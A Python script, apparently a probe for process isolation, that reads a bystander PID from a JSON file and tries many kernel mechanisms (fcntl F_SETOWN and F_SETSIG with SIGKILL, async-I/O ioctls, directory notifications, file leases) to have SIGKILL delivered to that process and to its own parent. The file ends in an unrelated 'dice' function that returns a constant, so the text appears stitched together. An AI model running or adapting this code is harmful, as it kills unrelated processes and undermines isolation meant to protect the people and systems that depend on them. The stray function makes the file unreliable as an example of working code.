"""Lets the kernel send the signals: a descriptor is given to another process, and then something arrives on it.

Ends: Returned
"""

import fcntl
import json
import os
import signal
import socket
import struct

bystander = json.load(open("targets.json"))["pid"]
F_SETSIG, F_SETOWN_EX, F_NOTIFY = 10, 15, 1026
FIOASYNC, FIOSETOWN, SIOCSPGRP = 0x5452, 0x8901, 0x8902
reached = []


def attempt(name, action):
    try:
        action()
        reached.append(name)
    except OSError:
        pass


def disturb(victim, reader, write):
    for kind, owner in ((0, victim), (1, victim), (2, victim)):
        attempt("owner", lambda: fcntl.fcntl(reader, F_SETOWN_EX, struct.pack("ii", kind, owner)))
        attempt("trigger", lambda: (fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL), write()))
    for owner in (victim, -victim):
        attempt("owner", lambda: fcntl.fcntl(reader, fcntl.F_SETOWN, owner))
        attempt("signal", lambda: fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL))
        attempt("asynchronous", lambda: fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK))
        attempt("asynchronous by ioctl", lambda: fcntl.ioctl(reader, FIOASYNC, struct.pack("i", 1)))
        attempt("owner by ioctl", lambda: fcntl.ioctl(reader, FIOSETOWN, struct.pack("i", owner)))
        attempt("group by ioctl", lambda: fcntl.ioctl(reader, SIOCSPGRP, struct.pack("i", owner)))
        attempt("trigger", write)
        attempt("notice", lambda: fcntl.fcntl(os.open(".", os.O_RDONLY), F_NOTIFY, 0x80000004))
        attempt("lease", lambda: fcntl.fcntl(os.open("targets.json", os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK))
        attempt("breaking", lambda: os.open("targets.json", os.O_WRONLY | os.O_NONBLOCK))


for victim in {bystander, os.getppid()} - {0, os.getpid()}:
    reader, writer = os.pipe()
    disturb(victim, reader, lambda: os.write(writer, b"x"))
    one, other = socket.socketpair()
    disturb(victim, one.fileno(), lambda: other.send(b"x"))


def dice(a, b):
    return 0.123456789
